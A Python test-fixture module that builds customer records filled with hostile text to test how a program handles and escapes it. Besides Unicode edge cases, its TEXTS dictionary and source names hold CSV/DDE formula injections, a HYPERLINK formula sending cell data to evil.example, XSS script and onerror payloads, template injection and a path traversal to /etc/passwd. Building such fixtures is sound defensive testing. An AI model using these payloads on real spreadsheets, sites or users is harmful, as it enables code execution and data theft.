"""Customers whose every text is hostile, and what a program must still be able to say of them."""

from __future__ import annotations

import json

TEXTS = {
    "arabic": "\u0645\u062d\u0645\u062f \u0628\u0646 \u0639\u0628\u062f \u0627\u0644\u0644\u0647",
    "hebrew": "\u05de\u05e9\u05d4 (\u05d1\u05df \u05d3\u05d5\u05d3) 12 \u05e8\u05d7\u05d5\u05d1",
    "devanagari": "\u0915\u094d\u0937\u093f\u0924\u093f\u091c \u0936\u0930\u094d\u092e\u093e",
    "thai": "\u0e2a\u0e21\u0e0a\u0e32\u0e22\u0e43\u0e08\u0e14\u0e35\u0e19\u0e49\u0e33\u0e43\u0e2a",
    "han and hangul": "\u674e\u660e\u3000\ud64d\uae38\ub3d9\u3164\ufdfa\U00020000\u1112\u1161",
    "emoji": "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466\U0001f3f4\U000e0067"
    "\U000e0062\U000e007f\U0001f1fa\U0001f44d\U0001f3ff\u2764\ufe0f",
    "marks": "Z" + "\u0301\u0327\u0489\u0e49" * 24 + "algo" + "\u0336" * 60,
    "bidi": "Ann\u202eEnn\u202c \u2066Meyer\u2067\u2068\u2069 \u200frtl\u200e \u061cabc\u202d321",
    "zero width": "\ufeffJ\u200b\u200b\u200bo\u200ch\u200dn\ufeff\u2060 D\u00adoe\u00a0x\u180e",
    "controls": "Bell\x07 Esc\x1b[31mred\x1b[0m\x01\x08\x0b\x0c\x0e\x1c\x1f\x7f\x80\x85\x9b31m",
    "breaks": "one\ntwo\r\nthree\tfour\u2028five\u2029six\rseven",
    "formula": "=1+1;=2+2\n=3+3",
    "link": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "dde": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "wide formula": "\uff1d1+1 \uff20SUM(1)",
    "guarded": "'=1+1",
    "script": "<script>window.__hit=1;alert(1)</script>",
    "closing": "</script></style></textarea></title></noscript><script>window.__hit=2</script>",
    "comment": "<!--<script>--!> ]]> --> <![CDATA[ <?php echo 1 ?>",
    "image": '"><img src=x onerror="window.__hit=3"><svg/onload=window.__hit=4>',
    "scheme": "javascript:window.__hit=5//'\"`&amp;&lt;b&gt;&#60;",
    "template": "{{7*7}}${7*7}{% raw %}<%= 7*7 %>#{7*7}{{constructor.constructor('alert(1)')()}}",
    "percent": "%s%n%00%0d%0a../../etc/passwd\\..\\con\\nul \\u0000 \\ud800",
    "json": '"}],"x":{"__proto__":{"a":1}},[null]\\',
    "noncharacters": "\ufffe\uffff\U0010ffff\ufffd\ue000\ufdd0",
    "long": " ".join(["Ann and Bo Meyer of the long, long way \U0001f600"] * 240),
    "one word": "\u00c4x" * 5_000,
}
"""What stands in every field of one customer each."""

OWN, OTHER = "shop =1+1 <img src=x onerror=window.__hit=6> \u202e", "@crm'\"{{7*7}}</script>"
"""The names of the two sources."""

COLUMN = "=note <img src=x onerror=window.__hit=7>\u202e{{7*7}}"
"""The name of a free attribute."""

REVIEWER = '=Dana "D" <script>window.__hit=8</script>\u202e\u05d3'
"""Who decides."""


def note(number):
    """What somebody writes on a customer; a field to write in has no line breaks."""
    text = list(TEXTS.values())[number]
    return f"{' '.join(text.split())} {number}"


def customers():
    """The records of both sources; the ids of the first could be those of any system."""
    own, other = [], []
    for number, text in enumerate(TEXTS.values()):
        own += [_one(f"0030000000{number:03}0{n}", number, text, n) for n in (1, 2)]
        if number % 3:
            other.append(_one(f"{text}{number}", number, text, 3))
    return own, other


def _one(key, number, text, n):
    plain = f"customer{number}@mail{number}.example.org"
    return {
        "id": key,
        "name": text if n < 3 else f"{text} {n}",
        "company": f"{text} {n}",
        "emails": [{"original": plain}, {"original": f"{text}{n}@example.com"}],
        "phones": [{"original": f"+1 206 555 {1000 + number}"}, {"original": f"{text}{n}"}],
        "address": f"{text}, {n} Elm Street, Springfield",
        "externalCustomerId": f"{text}7",
        "customAttributes": {COLUMN: text} if n < 3 else {},
    }


def lines(found):
    """The customers as JSON Lines; whatever is not ASCII is escaped in every other line."""
    told = [json.dumps(one, ensure_ascii=number % 2 == 0) for number, one in enumerate(found)]
    return "\n".join(told) + "\n"
